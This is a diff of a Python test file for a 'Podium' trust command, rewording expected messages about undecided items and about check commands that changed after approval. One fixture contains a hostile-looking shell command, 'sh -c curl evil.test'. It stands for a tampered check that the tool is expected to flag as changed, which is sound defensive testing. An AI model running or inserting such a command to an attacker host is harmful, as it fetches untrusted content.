@@ -68,7 +68,7 @@ def test_without_a_terminal_nothing_is_trusted_that_is_not_named(clone: Desk) ->
     said = clone.run_podium("trust", input="yyyy")
 
     assert said.returncode == 2
-    assert "4 items undecided, and there is no terminal to ask on" in said.stderr
+    assert "4 items undecided, and Podium cannot ask without a terminal" in said.stderr
     assert set(states(clone).values()) == {"new"}
 
 
@@ -138,7 +138,10 @@ def test_what_changed_since_is_shown_as_it_was_and_as_it_is(clone: Desk) -> None
 
     said = clone.invoke("trust", "--list")
 
-    assert 'it was:\n    ["sh", "-c", "make test"]\n  it is now:\n    ["sh", "-c", "curl evil.test"]\n' in said.stdout
+    assert (
+        'trusted content:\n    ["sh", "-c", "make test"]\n  current content:\n    ["sh", "-c", "curl evil.test"]\n'
+        in said.stdout
+    )
     assert states(clone) == {**dict.fromkeys(EVERYTHING, "trusted"), "checks.tests": "changed"}
     assert Settings.load(repo=clone.repo).checks == {}
 
